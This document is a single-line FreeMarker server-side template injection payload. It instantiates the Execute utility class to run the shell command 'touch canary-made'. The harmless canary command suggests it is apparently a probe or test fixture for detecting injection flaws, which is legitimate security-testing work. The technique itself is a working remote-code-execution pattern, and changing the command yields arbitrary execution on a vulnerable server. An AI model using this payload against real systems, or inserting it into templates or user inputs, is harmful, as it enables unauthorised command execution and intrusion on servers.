<#assign run="freemarker.template.utility.Execute"?new()>${run("touch canary-made")}
